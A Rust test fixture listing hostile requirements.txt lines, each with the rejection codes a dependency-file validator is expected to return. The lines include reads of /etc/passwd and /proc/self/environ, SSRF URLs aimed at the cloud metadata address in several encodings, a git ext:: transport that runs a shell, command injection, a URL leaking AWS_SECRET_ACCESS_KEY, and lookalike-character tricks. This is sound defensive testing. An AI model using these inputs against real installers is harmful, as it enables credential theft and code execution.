//! Lines of a `requirements.txt`.

use crate::case::{Case, Kind};

const KEY: &str = "requests/tools/requirements.txt";

pub(crate) fn cases() -> Vec<Case> {
    let hash = "0".repeat(64);
    let comparisons: Vec<_> = (0..100).map(|it| format!("os_name == '{it}'")).collect();
    let exponential = (0..12).fold("os_name == 'x'".to_owned(), |marker, number| {
        format!("({marker} or python_version < '3.{number}') and ({marker} or sys_platform == '{number}')")
    });
    let lines: Vec<(&str, String, &'static [&'static str])> = vec![
        // Files of the builder.
        (
            "another file",
            "-r /etc/passwd".to_owned(),
            &["IncludeOutside"],
        ),
        (
            "another file, glued",
            "-r/etc/passwd".to_owned(),
            &["IncludeOutside"],
        ),
        (
            "another file above",
            "-r ../secret.txt".to_owned(),
            &["IncludeOutside"],
        ),
        (
            "another file by a URL",
            "-r https://example.com/requirements.txt".to_owned(),
            &["IncludeOutside"],
        ),
        (
            "constraints of another file",
            "--constraint=/proc/self/environ".to_owned(),
            &["IncludeOutside"],
        ),
        ("a folder", "-e .".to_owned(), &["EditableUnsupported"]),
        (
            "a folder by a URL",
            "--editable file:///tmp".to_owned(),
            &["EditableUnsupported"],
        ),
        (
            "a path",
            "./evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a path behind a name",
            "evil @ ./evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "an absolute path",
            "/tmp/evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a path of a home",
            "~/evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a path on a drive",
            "C:\\evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a path in a network",
            "\\\\host\\share\\evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a file's URL",
            "evil @ file:///tmp/evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "a file's URL in capitals",
            "evil @ FILE:///tmp/evil-1.0-py3-none-any.whl".to_owned(),
            &["LocalPathUnsupported"],
        ),
        // Options.
        (
            "an index",
            "--index-url https://example.com/simple".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "another index",
            "--extra-index-url=https://example.com/simple".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "links",
            "-f https://example.com/links".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "a trusted host",
            "--trusted-host example.com".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "an option of uv",
            "--config-file /etc/passwd".to_owned(),
            &["OptionUnknown"],
        ),
        (
            "an option of uv for the interpreter",
            "--python /bin/sh".to_owned(),
            &["OptionUnknown"],
        ),
        (
            "an option of uv for sources",
            "--no-build-isolation".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "an option in disguise",
            "\u{ff0d}\u{ff0d}index-url https://example.com".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "an option with a dash that is none",
            "\u{2010}r /etc/passwd".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "an option behind a requirement",
            "six --index-url https://example.com".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "an option behind a hash",
            format!("six==1.0 --hash=sha256:{hash} --extra-index-url=https://example.com"),
            &["OptionUnsupported"],
        ),
        (
            "an option in the next line",
            "six==1.0 \\\n--index-url https://example.com".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "an option behind a carriage return",
            "six==1.0\r--index-url https://example.com".to_owned(),
            &["OptionUnsupported"],
        ),
        (
            "options of a build",
            "six --config-settings=--build-option=x".to_owned(),
            &["OptionUnsupported"],
        ),
        // Names, versions, hashes.
        ("a variable", "${HOME}".to_owned(), &["EnvironmentVariable"]),
        (
            "a variable in a URL",
            "evil @ https://${AWS_SECRET_ACCESS_KEY}.example.com/evil-1.0-py3-none-any.whl"
                .to_owned(),
            &["EnvironmentVariable"],
        ),
        (
            "a command",
            "six; os.system('x')".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "a command in backticks",
            "`id`".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "a NUL",
            "six\0evil".to_owned(),
            &["ControlCharacter", "RequirementInvalid"],
        ),
        (
            "an escape sequence",
            "six\u{1b}]0;x\u{7}".to_owned(),
            &["ControlCharacter", "RequirementInvalid"],
        ),
        (
            "another kind of line",
            "six\u{2028}-r /etc/passwd".to_owned(),
            &["ControlCharacter", "OptionInvalid"],
        ),
        (
            "another kind of line, a form feed",
            "six\u{c}-r /etc/passwd".to_owned(),
            &["ControlCharacter", "OptionInvalid"],
        ),
        (
            "text that turns around",
            "six # \u{202e}live\n".to_owned(),
            &["ControlCharacter"],
        ),
        (
            "a name that looks alike",
            "s\u{456}x".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "a name with a zero-width space",
            "s\u{200b}ix".to_owned(),
            &["RequirementInvalid"],
        ),
        (
            "a name of ten thousand letters",
            "x".repeat(10_000),
            &["LineTooLong"],
        ),
        (
            "a line of a megabyte",
            format!("six=={}", "1".repeat(1 << 20)),
            &["LineTooLong"],
        ),
        (
            "a million lines",
            "six\n".repeat(1_000_000),
            &["TooManyRequirements"],
        ),
        (
            "a hash with a second line",
            format!("six==1.0 --hash=sha256:{hash}\\\n{hash}"),
            &["HashInvalid"],
        ),
        (
            "a hash that is none",
            "six==1.0 --hash=sha256:../../x".to_owned(),
            &["HashInvalid"],
        ),
        (
            "a weak hash",
            "six==1.0 --hash=md5:d41d8cd98f00b204e9800998ecf8427e".to_owned(),
            &["HashUnsupported"],
        ),
        (
            "a marker that grows without end",
            format!("six ; {exponential}"),
            &["LineTooLong"],
        ),
        (
            "a marker of a hundred comparisons",
            format!("six ; {}", comparisons.join(" or ")),
            &["MarkerInvalid"],
        ),
        (
            "a marker nested a thousand deep",
            format!(
                "six ; {}os_name == 'x'{}",
                "(".repeat(1000),
                ")".repeat(1000)
            ),
            &["MarkerInvalid"],
        ),
        // URLs.
        (
            "a repository",
            "git+ssh://git@example.com/evil.git".to_owned(),
            &["VcsUnsupported"],
        ),
        (
            "a repository behind a name",
            "evil @ git+https://example.com/evil.git@main".to_owned(),
            &["VcsUnsupported"],
        ),
        (
            "a repository that runs something",
            "evil @ git+ext::sh -c 'x'".to_owned(),
            &["OptionInvalid", "VcsUnsupported"],
        ),
        (
            "plain HTTP",
            "evil @ http://example.com/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "the instance's metadata",
            "evil @ http://169.254.169.254/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "the instance's metadata as a number",
            "evil @ http://2852039166/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "the instance's metadata in hexadecimal",
            "evil @ http://0xa9fea9fe/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "the instance's metadata in octal",
            "evil @ http://0251.0376.0251.0376/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "the instance's metadata over IPv6",
            "evil @ http://[fd00:ec2::254]/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "another protocol",
            "evil @ ftp://example.com/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "an old protocol",
            "evil @ gopher://127.0.0.1:9001/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlUnsupported"],
        ),
        (
            "data as a URL",
            "evil @ data:application/zip;base64,UEs=".to_owned(),
            &["LocalPathUnsupported"],
        ),
        (
            "credentials",
            "evil @ https://user:password@example.com/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlCredentials"],
        ),
        (
            "a user that looks like a host",
            "evil @ https://example.com@169.254.169.254/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlCredentials"],
        ),
        (
            "a backslash in a host",
            "evil @ https://169.254.169.254\\@example.com/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlInvalid"],
        ),
        (
            "a newline in a URL",
            "evil @ https://example.com/%0aevil-1.0-py3-none-any.whl\n-r /etc/passwd".to_owned(),
            &["UrlInvalid", "IncludeOutside"],
        ),
        (
            "a wheel of another name",
            "six @ https://example.com/evil-1.0-py3-none-any.whl".to_owned(),
            &["UrlInvalid"],
        ),
        (
            "an sdist",
            "evil @ https://example.com/evil-1.0.tar.gz".to_owned(),
            &["SourceDistributionRefused"],
        ),
        (
            "a fragment with a folder",
            "evil @ https://example.com/evil-1.0-py3-none-any.whl#subdirectory=../..".to_owned(),
            &["UrlUnsupported"],
        ),
    ];
    lines
        .into_iter()
        .map(|(name, line, codes)| Case::object(Kind::Requirement, name, (KEY, line), codes))
        .collect()
}
